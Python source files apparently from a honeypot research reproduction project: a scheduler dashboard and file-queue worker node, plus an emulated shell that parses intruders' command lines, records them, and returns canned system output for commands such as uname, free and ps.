Where ``repro monitor`` watches *farm health* (pots, sessions, drift),
``top`` watches the *run itself*: per-worker heartbeat rows (state,
current shard, throughput, RSS), stage progress against the work trace,
and the recent operational alert tail.  It consumes exactly the stream
``repro monitor`` tails — flight-recorder JSONL events — so a recorded
``--trace`` file replays in CI (``--once``) and a live sink can be
followed while a scheduled generate runs.

The dashboard is a pure fold over event dicts (:meth:`TopDashboard.feed`)
plus a renderer; nothing here touches the scheduler, so it can run in a
different process, on a different machine, or after the fact.
"""

from __future__ import annotations

from collections import deque
from dataclasses import dataclass, field
from typing import Any, Deque, Dict, List, Optional

#: How many recent alerts (retries, stale workers) the frame keeps.
_ALERT_TAIL = 8

#: Minimum wall-clock span (seconds) a sessions/s rate is derived over.
#: Batched result drains deliver several beats within microseconds of
#: each other; a rate across such a sliver is display noise.
_RATE_WINDOW = 0.05


@dataclass
class WorkerRow:
    """Latest known state of one worker, derived from its heartbeats."""

    worker: str
    state: str = "?"
    beat: int = 0
    last_index: Optional[int] = None
    tasks_done: int = 0
    sessions_done: int = 0
    rss_kb: int = 0
    last_wall: Optional[float] = None
    #: sessions/s over at least ``_RATE_WINDOW`` of wall clock between
    #: beats (None until two sufficiently spaced beats arrive).
    rate: Optional[float] = None
    _anchor_wall: Optional[float] = None
    _anchor_sessions: int = 0

    def update(self, data: Dict[str, Any],
               wall: Optional[float]) -> None:
        beat = int(data.get("beat", 0))
        if beat <= self.beat and self.beat:
            return  # replayed heartbeat
        self.beat = beat
        self.state = str(data.get("state", self.state))
        self.last_index = data.get("last_index", self.last_index)
        self.tasks_done = int(data.get("tasks_done", self.tasks_done))
        self.sessions_done = int(data.get("sessions_done",
                                          self.sessions_done))
        self.rss_kb = int(data.get("rss_kb", self.rss_kb))
        self.last_wall = wall
        if wall is None:
            return
        if self._anchor_wall is None:
            self._anchor_wall = wall
            self._anchor_sessions = self.sessions_done
        elif wall - self._anchor_wall >= _RATE_WINDOW:
            self.rate = max(
                0.0, (self.sessions_done - self._anchor_sessions)
                / (wall - self._anchor_wall)
            )
            self._anchor_wall = wall
            self._anchor_sessions = self.sessions_done


@dataclass
class TopDashboard:
    """Folds flight-recorder events into the ``top`` view.

    Feed it any event stream containing ``sched.*`` kinds; unknown kinds
    are counted and ignored, so a full generation trace (honeypot
    events and all) renders fine.
    """

    workers: Dict[str, WorkerRow] = field(default_factory=dict)
    total_tasks: Optional[int] = None
    tasks_done: int = 0
    sessions: int = 0
    retries: int = 0
    stale_episodes: int = 0
    merged_sessions: Optional[int] = None
    events_seen: int = 0
    alerts: Deque[str] = field(
        default_factory=lambda: deque(maxlen=_ALERT_TAIL)
    )

    # -- folding ---------------------------------------------------------------

    def feed(self, event: Dict[str, Any]) -> None:
        """Fold one flight-recorder event dict into the view."""
        self.events_seen += 1
        kind = str(event.get("kind", ""))
        data = event.get("data") or {}
        if kind == "sched.trace.built":
            self.total_tasks = data.get("tasks")
        elif kind == "sched.task.done":
            self.tasks_done += 1
            self.sessions += int(data.get("sessions", 0))
        elif kind == "sched.task.retry":
            self.retries += 1
            self.alerts.append(
                f"RETRY      task {data.get('index')} -> attempt "
                f"{data.get('attempt')}: {data.get('error', '?')}"
            )
        elif kind == "sched.heartbeat.worker":
            worker = str(data.get("worker", "?"))
            row = self.workers.get(worker)
            if row is None:
                row = self.workers[worker] = WorkerRow(worker=worker)
            row.update(data, event.get("wall"))
        elif kind == "sched.heartbeat.stale":
            self.stale_episodes += 1
            worker = str(data.get("worker", "?"))
            if worker in self.workers:
                self.workers[worker].state = "STALE"
            self.alerts.append(
                f"STALE      worker {worker} silent "
                f"{data.get('silent_seconds', '?')}s "
                f"(last task {data.get('last_index')})"
            )
        elif kind == "generate.merged":
            self.merged_sessions = data.get("sessions")

    def feed_all(self, events) -> None:
        for event in events:
            self.feed(event)

    # -- rendering -------------------------------------------------------------

    def render(self, width: int = 34) -> str:
        """The dashboard frame as plain text (one terminal screen)."""
        lines = [self._progress_line(width), ""]
        lines.extend(self._worker_table())
        lines.append("")
        lines.append("-- recent alerts --")
        if self.alerts:
            lines.extend(f"  {alert}" for alert in self.alerts)
        else:
            lines.append("  (none)")
        return "\n".join(lines)

    def _progress_line(self, width: int) -> str:
        done = self.tasks_done
        total = self.total_tasks
        if total:
            filled = int(width * min(done / total, 1.0))
            bar = "#" * filled + "." * (width - filled)
            progress = f"[{bar}] {done}/{total} ({done / total:4.0%})"
        else:
            progress = f"{done} task(s) done"
        extras = [f"sessions {self.sessions:,}"]
        if self.merged_sessions is not None:
            extras.append(f"merged {self.merged_sessions:,}")
        if self.retries:
            extras.append(f"retries {self.retries}")
        if self.stale_episodes:
            extras.append(f"stale {self.stale_episodes}")
        return ("== repro top — scheduler dashboard ==\n"
                f"tasks {progress} · " + " · ".join(extras))

    def _worker_table(self) -> List[str]:
        header = (f"{'worker':<14} {'state':<6} {'beat':>5} "
                  f"{'last task':>9} {'done':>5} {'sess/s':>8} "
                  f"{'rss':>9}")
        if not self.workers:
            return [header, "  (no worker heartbeats yet)"]
        rows = [header]
        for worker in sorted(self.workers):
            row = self.workers[worker]
            last = "-" if row.last_index is None else str(row.last_index)
            rate = "-" if row.rate is None else f"{row.rate:,.0f}"
            rss = (f"{row.rss_kb / 1024:.1f} MB" if row.rss_kb else "-")
            rows.append(
                f"{row.worker:<14} {row.state:<6} {row.beat:>5} "
                f"{last:>9} {row.tasks_done:>5} {rate:>8} {rss:>9}"
            )
        return rows


__all__ = ["TopDashboard", "WorkerRow"]
