"""The file-queue node: claims spooled shard tasks and returns bundles.

One spool directory is one farm-generation job::

    <root>/config.json          scenario config + trace flag (written once)
    <root>/tasks/               serialized ShardTasks awaiting a node
    <root>/claimed/             tasks a node owns (claim = atomic rename)
    <root>/results/             returned bundles: <task>.npz + <task>.json
    <root>/heartbeats/          one liveness file per worker (overwritten)
    <root>/nodes.json           the scheduler's desired node count (advisory)

Any number of node processes may service the same spool concurrently —
claiming by atomic rename makes each task run exactly once per attempt,
and the result sidecar (written last) marks a bundle complete.  Run one
with::

    python -m repro.sched.node <root> [--max-tasks N]

The :class:`~repro.sched.backends.QueueBackend` stub calls
:func:`service_pending` in-process, which is byte-for-byte the same code
path a remote node runs — pointing real machines at a shared spool is
deployment, not development.
"""

from __future__ import annotations

import dataclasses
import json
import os
import sys
from pathlib import Path
from typing import Dict, Iterator, Optional, Set, Tuple

from repro.obs import stopwatch

SPOOL_VERSION = 1

_TASKS = "tasks"
_CLAIMED = "claimed"
_RESULTS = "results"
_HEARTBEATS = "heartbeats"
_CONFIG = "config.json"
_NODES = "nodes.json"

#: Per-process cache of rebuilt scenario configs, keyed by spool root.
_CONFIG_CACHE: Dict[str, Tuple[object, bool]] = {}


class HeartbeatLedger:
    """Monotonic heartbeat counters for one spool-servicing owner.

    Whoever drives the servicing loop — a
    :class:`~repro.sched.backends.QueueBackend` instance, or one node
    process invocation of :func:`main` — owns exactly one ledger and
    threads it through :func:`service_pending` / :func:`run_claimed`, so
    a worker's beat sequence keeps increasing for as long as that owner
    services the spool, which is what heartbeat receivers dedupe on.
    Explicit ownership (rather than a module-level counter dict) keeps
    mutable state out of the worker-boundary surface: nothing here is
    shared between owners or smuggled into forked workers.
    """

    def __init__(self) -> None:
        self._counts: Dict[Tuple[str, str], Tuple[int, int]] = {}

    def bump(self, root: str, worker: str, sessions: int) -> Tuple[int, int]:
        """Advance and return (beats, sessions_done) for (root, worker)."""
        beats, sessions_done = self._counts.get((root, worker), (0, 0))
        beats += 1
        sessions_done += int(sessions)
        self._counts[(root, worker)] = (beats, sessions_done)
        return beats, sessions_done


def init_spool(root, config, want_trace: bool) -> None:
    """Create the spool layout and pin the job's scenario config."""
    root = Path(root)
    for sub in (_TASKS, _CLAIMED, _RESULTS, _HEARTBEATS):
        (root / sub).mkdir(parents=True, exist_ok=True)
    payload = {
        "version": SPOOL_VERSION,
        "want_trace": bool(want_trace),
        "config": dataclasses.asdict(config),
    }
    _atomic_write_text(root / _CONFIG, json.dumps(payload, sort_keys=True))
    _CONFIG_CACHE.pop(str(root), None)


def spool_config(root) -> Tuple[object, bool]:
    """The spool's (ScenarioConfig, want_trace), cached per process."""
    from repro.workload.config import ScenarioConfig

    key = str(root)
    cached = _CONFIG_CACHE.get(key)
    if cached is None:
        with open(Path(root) / _CONFIG, encoding="utf-8") as fh:
            payload = json.load(fh)
        if payload.get("version") != SPOOL_VERSION:
            raise ValueError(
                f"{root}: unsupported spool version {payload.get('version')!r}"
            )
        cached = (ScenarioConfig(**payload["config"]),
                  bool(payload.get("want_trace")))
        _CONFIG_CACHE[key] = cached
    return cached


def _task_stem(index: int, attempt: int) -> str:
    return f"task-{index:05d}-a{attempt}"


def _parse_stem(stem: str) -> Tuple[int, int]:
    """(index, attempt) back out of a ``task-00042-a1`` stem."""
    _, index, attempt = stem.split("-")
    return int(index), int(attempt[1:])


def _atomic_write_text(path: Path, text: str) -> None:
    tmp = path.with_name(path.name + f".tmp{os.getpid()}")
    tmp.write_text(text, encoding="utf-8")
    tmp.replace(path)


def enqueue_task(root, task, attempt: int = 1) -> Path:
    """Serialise one task attempt into the spool; returns its file."""
    root = Path(root)
    payload = dict(task.to_dict(), attempt=int(attempt))
    target = root / _TASKS / (_task_stem(task.index, attempt) + ".json")
    _atomic_write_text(target, json.dumps(payload, sort_keys=True))
    return target


def write_desired_nodes(root, workers: int) -> None:
    """Record the scheduler's desired node count (advisory for a fleet)."""
    _atomic_write_text(Path(root) / _NODES,
                       json.dumps({"desired_nodes": int(workers)}))


def claim_next(root) -> Optional[Path]:
    """Claim the oldest pending task by atomic rename; None when drained."""
    root = Path(root)
    for candidate in sorted((root / _TASKS).glob("task-*.json")):
        claimed = root / _CLAIMED / candidate.name
        try:
            candidate.rename(claimed)
        except OSError:
            continue  # another node won the claim
        return claimed
    return None


def run_claimed(root, claimed: Path, worker: Optional[str] = None,
                ledger: Optional[HeartbeatLedger] = None) -> Path:
    """Execute one claimed task file; returns the result sidecar path.

    The store lands as ``<stem>.npz``; the JSON sidecar (metrics, trace
    events, run seconds — or an ``error``) is written last, so its
    presence marks the bundle complete.  Failures stay on this node's
    ledger as error sidecars; the scheduler decides about retries.
    ``ledger`` carries the owner's heartbeat counters; a bare call gets
    a one-shot ledger (its heartbeat starts at beat 1).
    """
    from repro.sched.backends import _run_task
    from repro.store.npz import save_npz

    root = Path(root)
    worker = worker or f"node-{os.getpid()}"
    ledger = ledger if ledger is not None else HeartbeatLedger()
    with open(claimed, encoding="utf-8") as fh:
        payload = json.load(fh)
    index, attempt = int(payload["index"]), int(payload["attempt"])
    config, want_trace = spool_config(root)
    stem = _task_stem(index, attempt)
    sidecar = root / _RESULTS / (stem + ".json")
    watch = stopwatch()
    try:
        store, metrics, events, telemetry = _run_task(
            config, index, want_trace
        )
    except Exception as exc:
        _atomic_write_text(sidecar, json.dumps({
            "error": f"{type(exc).__name__}: {exc}", "worker": worker,
        }, sort_keys=True))
        _write_heartbeat(root, worker, ledger, last_index=index, sessions=0)
        return sidecar
    # The tmp name must keep the .npz suffix (numpy appends one otherwise).
    npz_tmp = root / _RESULTS / (stem + f".tmp{os.getpid()}.npz")
    save_npz(store, npz_tmp)
    npz_tmp.replace(root / _RESULTS / (stem + ".npz"))
    _atomic_write_text(sidecar, json.dumps({
        "worker": worker,
        "run_seconds": watch.elapsed(),
        "sessions": len(store),
        "metrics": metrics,
        "events": events,
        "telemetry": telemetry,
    }, sort_keys=True))
    _write_heartbeat(root, worker, ledger, last_index=index,
                     sessions=len(store))
    return sidecar


def _write_heartbeat(root: Path, worker: str, ledger: HeartbeatLedger,
                     last_index: int, sessions: int) -> None:
    """Refresh this worker's spool heartbeat file (one file, overwritten).

    The beat counter lives in the caller's :class:`HeartbeatLedger`, so
    the sequence stays monotonic across :func:`service_pending` calls by
    one owner and the scheduler's dedupe-by-beat works over file
    re-reads.
    """
    from repro.obs.resources import worker_heartbeat

    beats, sessions_done = ledger.bump(str(root), worker, sessions)
    payload = worker_heartbeat(
        worker, beat=beats, state="idle", last_index=last_index,
        tasks_done=beats, sessions_done=sessions_done,
    )
    _atomic_write_text(root / _HEARTBEATS / f"{worker}.json",
                       json.dumps(payload, sort_keys=True))


def read_heartbeats(root) -> list:
    """Latest heartbeat payload per worker servicing this spool."""
    beats = []
    hb_dir = Path(root) / _HEARTBEATS
    if not hb_dir.is_dir():
        return beats
    for path in sorted(hb_dir.glob("*.json")):
        try:
            with open(path, encoding="utf-8") as fh:
                beats.append(json.load(fh))
        except (OSError, ValueError):
            continue  # mid-write or unreadable; the next poll catches up
    return beats


def service_pending(root, limit: Optional[int] = None,
                    worker: Optional[str] = None,
                    ledger: Optional[HeartbeatLedger] = None) -> int:
    """Claim and run up to ``limit`` pending tasks (all, when None).

    Callers that service one spool repeatedly (the queue backend, a node
    supervisor loop) should hold a :class:`HeartbeatLedger` and pass it
    each time so worker beat sequences stay monotonic across calls.
    """
    ledger = ledger if ledger is not None else HeartbeatLedger()
    done = 0
    while limit is None or done < limit:
        claimed = claim_next(root)
        if claimed is None:
            break
        run_claimed(root, claimed, worker=worker, ledger=ledger)
        done += 1
    return done


def read_results(root, skip: Set[Tuple[int, int]]) -> \
        Iterator[Tuple[int, int, Dict]]:
    """Completed bundles not in ``skip``: (index, attempt, payload).

    Successful payloads carry the deserialised store under ``"store"``
    alongside the sidecar fields; error payloads carry ``"error"``.
    """
    from repro.store.npz import load_npz

    results = Path(root) / _RESULTS
    for sidecar in sorted(results.glob("task-*.json")):
        index, attempt = _parse_stem(sidecar.stem)
        if (index, attempt) in skip:
            continue
        with open(sidecar, encoding="utf-8") as fh:
            payload = json.load(fh)
        if not payload.get("error"):
            payload["store"] = load_npz(sidecar.with_suffix(".npz"))
        yield index, attempt, payload


def main(argv=None) -> int:
    """``python -m repro.sched.node <root>``: drain the spool once.

    A production fleet would wrap this in a supervisor loop per machine;
    the one-shot form keeps the stub free of polling/sleeping concerns.
    """
    import argparse

    parser = argparse.ArgumentParser(
        prog="repro.sched.node",
        description="file-queue honeyfarm shard node: claim and run "
                    "pending tasks from a scheduler spool directory",
    )
    parser.add_argument("root", help="spool directory (see repro.sched)")
    parser.add_argument("--max-tasks", type=int, default=None,
                        help="stop after N tasks (default: drain the spool)")
    parser.add_argument("--worker", default=None,
                        help="worker id stamped on result bundles")
    args = parser.parse_args(argv)
    if not (Path(args.root) / _CONFIG).exists():
        print(f"error: {args.root} is not an initialised spool "
              f"(missing {_CONFIG})", file=sys.stderr)
        return 2
    done = service_pending(args.root, limit=args.max_tasks,
                           worker=args.worker, ledger=HeartbeatLedger())
    print(f"serviced {done} task(s) from {args.root}", file=sys.stderr)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
