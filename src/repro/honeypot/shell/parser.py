"""Command-line parsing for the emulated shell.

A client input line may chain several simple commands with ``;``, ``&&``,
``||`` and ``|``.  The paper's command analysis splits recorded command
strings at ``;`` and ``|``; the shell does the same split at execution time,
so one input line yields one recorded command per stage.  Each simple
command is tokenised with quote handling and may carry ``>``/``>>`` output
redirection.
"""

from __future__ import annotations

import shlex
from dataclasses import dataclass, field
from typing import List, Optional


@dataclass
class SimpleCommand:
    """One pipeline stage: argv, original text, optional redirection."""

    text: str
    argv: List[str] = field(default_factory=list)
    redirect_path: Optional[str] = None
    redirect_append: bool = False

    @property
    def name(self) -> str:
        return self.argv[0] if self.argv else ""


_SEPARATORS = (";", "&&", "||", "|")


def _split_top_level(line: str) -> List[str]:
    """Split a line at top-level separators, respecting quotes."""
    parts: List[str] = []
    buf: List[str] = []
    quote: Optional[str] = None
    i = 0
    n = len(line)
    while i < n:
        ch = line[i]
        if quote:
            buf.append(ch)
            if ch == quote:
                quote = None
            i += 1
            continue
        if ch in ("'", '"', "`"):
            quote = ch
            buf.append(ch)
            i += 1
            continue
        if line.startswith("&&", i) or line.startswith("||", i):
            parts.append("".join(buf))
            buf = []
            i += 2
            continue
        if ch in (";", "|", "\n"):
            parts.append("".join(buf))
            buf = []
            i += 1
            continue
        if ch == "&" and not line.startswith("&&", i):
            # trailing background '&': drop the ampersand, keep the command
            i += 1
            continue
        buf.append(ch)
        i += 1
    parts.append("".join(buf))
    return [p.strip() for p in parts if p.strip()]


def _parse_simple(text: str) -> SimpleCommand:
    redirect_path: Optional[str] = None
    redirect_append = False
    body = text
    # Find an unquoted > or >> (scan right to left so `echo x > y` works).
    quote: Optional[str] = None
    redir_idx = -1
    for i, ch in enumerate(body):
        if quote:
            if ch == quote:
                quote = None
            continue
        if ch in ("'", '"', "`"):
            quote = ch
        elif ch == ">":
            redir_idx = i
            break
    if redir_idx >= 0:
        target = body[redir_idx:]
        body = body[:redir_idx]
        if target.startswith(">>"):
            redirect_append = True
            target = target[2:]
        else:
            target = target[1:]
        redirect_path = target.strip().split()[0] if target.strip() else None
    if "'" not in body and '"' not in body and "\\" not in body:
        # No quoting or escapes: posix shlex with whitespace_split reduces
        # to plain whitespace splitting, so skip the tokenizer machinery.
        argv = body.split()
    else:
        try:
            argv = shlex.split(body, posix=True)
        except ValueError:
            argv = body.split()
    return SimpleCommand(
        text=text.strip(),
        argv=argv,
        redirect_path=redirect_path,
        redirect_append=redirect_append,
    )


#: Parse memo: scripted sessions re-type the same recon/dropper lines
#: endlessly, so parsing is the shell's hottest pure function.  Parsed
#: templates are cached per line; callers get fresh copies (argv included)
#: so a cached parse can never be mutated through a previous caller.
_PARSE_CACHE: dict = {}
_PARSE_CACHE_MAX = 8192


def split_command_line(line: str) -> List[SimpleCommand]:
    """Split one input line into its simple commands.

    >>> [c.name for c in split_command_line("uname -a; free -m | grep Mem")]
    ['uname', 'free', 'grep']
    """
    cached = _PARSE_CACHE.get(line)
    if cached is None:
        if len(_PARSE_CACHE) >= _PARSE_CACHE_MAX:
            _PARSE_CACHE.clear()
        cached = [_parse_simple(part) for part in _split_top_level(line)]
        _PARSE_CACHE[line] = cached
    return [
        SimpleCommand(
            text=c.text,
            argv=list(c.argv),
            redirect_path=c.redirect_path,
            redirect_append=c.redirect_append,
        )
        for c in cached
    ]
