"""The emulated shell: executes client input lines and records everything.

Each input line is split into simple commands (pipeline stages).  Known
commands run through their emulation; unknown ones are recorded verbatim —
they produce the busybox "applet not found" error text, but from the
honeypot's perspective what matters is the record.  Output redirection turns
a command's output into a file write (with hash recording).
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from typing import List

from repro.honeypot.shell.base import CommandRegistry, default_registry
from repro.honeypot.shell.context import DownloadRecord, FileChange, ShellContext
from repro.honeypot.shell.parser import SimpleCommand, split_command_line
from repro.honeypot.uri import extract_uris


@dataclass
class CommandRecord:
    """What the honeypot logs for a single executed command."""

    text: str
    name: str
    known: bool
    output: str
    uris: List[str] = field(default_factory=list)


@dataclass
class ExecutionResult:
    """Everything produced by one input line."""

    line: str
    commands: List[CommandRecord] = field(default_factory=list)
    file_changes: List[FileChange] = field(default_factory=list)
    downloads: List[DownloadRecord] = field(default_factory=list)
    exit_requested: bool = False

    @property
    def uris(self) -> List[str]:
        seen = []
        for record in self.commands:
            for uri in record.uris:
                if uri not in seen:
                    seen.append(uri)
        return seen


class EmulatedShell:
    """Executes input lines against a :class:`ShellContext`."""

    def __init__(self, context: ShellContext, registry: CommandRegistry = None):
        self.context = context
        self.registry = registry or default_registry()

    def execute(self, line: str) -> ExecutionResult:
        """Execute one client input line; returns all recorded artefacts."""
        result = ExecutionResult(line=line)
        changes_before = len(self.context.file_changes)
        downloads_before = len(self.context.downloads)

        for simple in split_command_line(line):
            record = self._run_simple(simple)
            result.commands.append(record)
            if self.context.exit_requested:
                result.exit_requested = True
                break

        result.file_changes = self.context.file_changes[changes_before:]
        result.downloads = self.context.downloads[downloads_before:]
        return result

    #: Innermost $(...) substitution, one nesting level per pass.
    _SUBSTITUTION_RE = re.compile(r"\$\(([^()]*)\)")

    def _substitute(self, simple: SimpleCommand) -> SimpleCommand:
        """Expand ``$(command)`` substitutions (e.g. ``ls -lh $(which ls)``).

        Substitution output is captured from the emulated command; the
        *recorded* command text keeps the original form, exactly as the
        honeypot logs what the client typed.
        """
        if "$(" not in simple.text:
            return simple

        def replace(match: re.Match) -> str:
            inner = split_command_line(match.group(1))
            outputs = []
            for sub in inner:
                record = self._run_simple(sub)
                outputs.append(record.output)
            return " ".join(o.strip() for o in outputs if o)

        expanded_text = simple.text
        for _ in range(3):  # bounded nesting
            new_text = self._SUBSTITUTION_RE.sub(replace, expanded_text)
            if new_text == expanded_text:
                break
            expanded_text = new_text
        if expanded_text == simple.text:
            return simple
        reparsed = split_command_line(expanded_text)
        if not reparsed:
            return simple
        expanded = reparsed[0]
        return SimpleCommand(
            text=simple.text,  # keep the original for the record
            argv=expanded.argv,
            redirect_path=expanded.redirect_path or simple.redirect_path,
            redirect_append=expanded.redirect_append or simple.redirect_append,
        )

    def _run_simple(self, simple: SimpleCommand) -> CommandRecord:
        simple = self._substitute(simple)
        uris = extract_uris(simple.text)
        if not simple.argv:
            return CommandRecord(text=simple.text, name="", known=True, output="", uris=uris)

        name = simple.name
        func = self.registry.lookup(name)

        if func is None and (name.startswith("./") or name.startswith("/")):
            # Executing a (downloaded) local binary: unknown command, but it
            # must exist to "run"; either way Cowrie records the input.
            known = False
            if self.context.fs.exists(name):
                output = ""
            else:
                output = f"-sh: {name}: not found"
            record = CommandRecord(
                text=simple.text, name=name, known=known, output=output, uris=uris
            )
            return record

        if func is None:
            output = f"-sh: {name}: not found"
            return CommandRecord(
                text=simple.text, name=name, known=False, output=output, uris=uris
            )

        output = func(self.context, simple)

        if simple.redirect_path:
            content = (output + "\n").encode("utf-8") if output else b""
            if name == "echo" and not output:
                content = b"\n"
            self.context.record_write(
                simple.redirect_path, content, append=simple.redirect_append
            )
            output = ""

        return CommandRecord(
            text=simple.text, name=name, known=True, output=output, uris=uris
        )
