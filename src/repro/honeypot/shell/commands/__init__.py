"""Built-in emulated commands.

Grouped by theme: system information, file manipulation, networking
(droppers), and session/system control.  `build_registry()` assembles the
full :class:`~repro.honeypot.shell.base.CommandRegistry` used by default.
"""

from __future__ import annotations

from repro.honeypot.shell.base import CommandRegistry
from repro.honeypot.shell.commands import control, files, info, network, text


def build_registry() -> CommandRegistry:
    registry = CommandRegistry()
    info.register(registry)
    files.register(registry)
    network.register(registry)
    control.register(registry)
    text.register(registry)
    return registry


__all__ = ["build_registry"]
