"""Text-processing commands.

The paper's Table 3 shows pipelines such as ``cat /proc/cpuinfo | grep
name | wc -l`` — intruders count cores and parse memory through classic
text tools.  The shell splits pipelines into stages, so these emulations
operate on the *file arguments* they receive (or return plausible values
for the bare pipeline-stage form).
"""

from __future__ import annotations

from repro.honeypot.shell.base import CommandRegistry
from repro.honeypot.shell.context import ShellContext
from repro.honeypot.shell.parser import SimpleCommand


def _read_args(ctx: ShellContext, cmd: SimpleCommand) -> list:
    texts = []
    for path in cmd.argv[1:]:
        if path.startswith("-"):
            continue
        try:
            texts.append(ctx.fs.read(path).decode("utf-8", "replace"))
        except (FileNotFoundError, IsADirectoryError):
            pass
    return texts


def _wc(ctx: ShellContext, cmd: SimpleCommand) -> str:
    texts = _read_args(ctx, cmd)
    if not texts:
        # Bare pipeline stage (`... | wc -l`): the canonical core count.
        return "1"
    text = "".join(texts)
    lines = text.count("\n")
    words = len(text.split())
    chars = len(text)
    if "-l" in cmd.argv:
        return str(lines)
    if "-w" in cmd.argv:
        return str(words)
    if "-c" in cmd.argv:
        return str(chars)
    return f"{lines} {words} {chars}"


def _sort(ctx: ShellContext, cmd: SimpleCommand) -> str:
    texts = _read_args(ctx, cmd)
    if not texts:
        return ""
    lines = "".join(texts).splitlines()
    reverse = "-r" in cmd.argv
    return "\n".join(sorted(lines, reverse=reverse))


def _uniq(ctx: ShellContext, cmd: SimpleCommand) -> str:
    texts = _read_args(ctx, cmd)
    if not texts:
        return ""
    out = []
    previous = None
    for line in "".join(texts).splitlines():
        if line != previous:
            out.append(line)
        previous = line
    return "\n".join(out)


def _cut(ctx: ShellContext, cmd: SimpleCommand) -> str:
    return ""


def _tr(ctx: ShellContext, cmd: SimpleCommand) -> str:
    return ""


def _sed(ctx: ShellContext, cmd: SimpleCommand) -> str:
    return ""


def _md5sum(ctx: ShellContext, cmd: SimpleCommand) -> str:
    import hashlib

    outputs = []
    for path in cmd.argv[1:]:
        if path.startswith("-"):
            continue
        try:
            content = ctx.fs.read(path)
        except (FileNotFoundError, IsADirectoryError):
            outputs.append(f"md5sum: {path}: No such file or directory")
            continue
        outputs.append(f"{hashlib.md5(content).hexdigest()}  {path}")
    return "\n".join(outputs)


def _base64(ctx: ShellContext, cmd: SimpleCommand) -> str:
    import base64 as b64

    decode = "-d" in cmd.argv or "--decode" in cmd.argv
    texts = _read_args(ctx, cmd)
    if not texts:
        return ""
    raw = "".join(texts).encode("utf-8")
    try:
        out = b64.b64decode(raw) if decode else b64.b64encode(raw)
    except Exception:
        return "base64: invalid input"
    return out.decode("utf-8", "replace").rstrip("\n")


def register(registry: CommandRegistry) -> None:
    registry.register("wc", _wc)
    registry.register("sort", _sort)
    registry.register("uniq", _uniq)
    registry.register("cut", _cut)
    registry.register("tr", _tr)
    registry.register("sed", _sed)
    registry.register("md5sum", _md5sum)
    registry.register("sha256sum", _md5sum)
    registry.register("base64", _base64)
