"""System-information commands.

These dominate the paper's Table 3: intruders fingerprint the machine with
``uname``, ``free``, ``w``, ``cat /proc/cpuinfo``, ``nproc`` & co. before
deciding whether to deploy a payload.
"""

from __future__ import annotations

from repro.honeypot.shell.base import CommandRegistry
from repro.honeypot.shell.context import ShellContext
from repro.honeypot.shell.parser import SimpleCommand

UNAME_FULL = (
    "Linux localhost 4.14.98 #1 SMP Mon Jan 21 22:55:52 UTC 2019 armv7l GNU/Linux"
)

FREE_OUTPUT = (
    "              total        used        free      shared  buff/cache   available\n"
    "Mem:         254696       73456      181240        1068       38912      170200\n"
    "Swap:             0           0           0"
)

W_OUTPUT = (
    " 03:14:07 up 13 days,  4:22,  1 user,  load average: 0.08, 0.03, 0.01\n"
    "USER     TTY      FROM             LOGIN@   IDLE   JCPU   PCPU WHAT\n"
    "root     pts/0    -                03:14    0.00s  0.02s  0.00s w"
)

PS_OUTPUT = (
    "  PID TTY          TIME CMD\n"
    "    1 ?        00:00:04 init\n"
    "  842 ?        00:00:00 sshd\n"
    " 1021 pts/0    00:00:00 sh\n"
    " 1043 pts/0    00:00:00 ps"
)

LSCPU_OUTPUT = (
    "Architecture:        armv7l\n"
    "Byte Order:          Little Endian\n"
    "CPU(s):              1\n"
    "Model name:          ARMv7 Processor rev 5 (v7l)\n"
    "BogoMIPS:            38.40"
)

DF_OUTPUT = (
    "Filesystem     1K-blocks   Used Available Use% Mounted on\n"
    "/dev/root        7361944 941712   6067520  14% /\n"
    "tmpfs             127348      0    127348   0% /tmp"
)

IFCONFIG_OUTPUT = (
    "eth0      Link encap:Ethernet  HWaddr 52:54:00:12:34:56\n"
    "          inet addr:192.168.1.107  Bcast:192.168.1.255  Mask:255.255.255.0\n"
    "          UP BROADCAST RUNNING MULTICAST  MTU:1500  Metric:1"
)


def _uname(ctx: ShellContext, cmd: SimpleCommand) -> str:
    args = set(cmd.argv[1:])
    if not args:
        return "Linux"
    if "-a" in args or "--all" in args:
        return UNAME_FULL
    out = []
    if "-s" in args:
        out.append("Linux")
    if "-n" in args:
        out.append(ctx.hostname)
    if "-r" in args:
        out.append("4.14.98")
    if "-m" in args or "-p" in args:
        out.append("armv7l")
    if "-o" in args:
        out.append("GNU/Linux")
    return " ".join(out) if out else "Linux"


def _free(ctx: ShellContext, cmd: SimpleCommand) -> str:
    return FREE_OUTPUT


def _w(ctx: ShellContext, cmd: SimpleCommand) -> str:
    return W_OUTPUT


def _whoami(ctx: ShellContext, cmd: SimpleCommand) -> str:
    return ctx.env.get("USER", "root")


def _id(ctx: ShellContext, cmd: SimpleCommand) -> str:
    return "uid=0(root) gid=0(root) groups=0(root)"


def _hostname(ctx: ShellContext, cmd: SimpleCommand) -> str:
    return ctx.hostname


def _uptime(ctx: ShellContext, cmd: SimpleCommand) -> str:
    return " 03:14:07 up 13 days,  4:22,  1 user,  load average: 0.08, 0.03, 0.01"


def _nproc(ctx: ShellContext, cmd: SimpleCommand) -> str:
    return "1"


def _ps(ctx: ShellContext, cmd: SimpleCommand) -> str:
    return PS_OUTPUT


def _top(ctx: ShellContext, cmd: SimpleCommand) -> str:
    return "top - 03:14:07 up 13 days,  1 user,  load average: 0.08, 0.03, 0.01\n" + PS_OUTPUT


def _lscpu(ctx: ShellContext, cmd: SimpleCommand) -> str:
    return LSCPU_OUTPUT


def _df(ctx: ShellContext, cmd: SimpleCommand) -> str:
    return DF_OUTPUT


def _du(ctx: ShellContext, cmd: SimpleCommand) -> str:
    return "16\t."


def _ifconfig(ctx: ShellContext, cmd: SimpleCommand) -> str:
    return IFCONFIG_OUTPUT


def _env(ctx: ShellContext, cmd: SimpleCommand) -> str:
    return "\n".join(f"{k}={v}" for k, v in sorted(ctx.env.items()))


def _history(ctx: ShellContext, cmd: SimpleCommand) -> str:
    # Cleared histories are what bots want to see.
    if cmd.argv[1:2] == ["-c"]:
        return ""
    return "    1  history"


def _netstat(ctx: ShellContext, cmd: SimpleCommand) -> str:
    return (
        "Active Internet connections (w/o servers)\n"
        "Proto Recv-Q Send-Q Local Address           Foreign Address         State\n"
        "tcp        0      0 192.168.1.107:22        10.0.0.5:53410          ESTABLISHED"
    )


def register(registry: CommandRegistry) -> None:
    registry.register("uname", _uname)
    registry.register("free", _free)
    registry.register("w", _w)
    registry.register("who", _w)
    registry.register("whoami", _whoami)
    registry.register("id", _id)
    registry.register("hostname", _hostname)
    registry.register("uptime", _uptime)
    registry.register("nproc", _nproc)
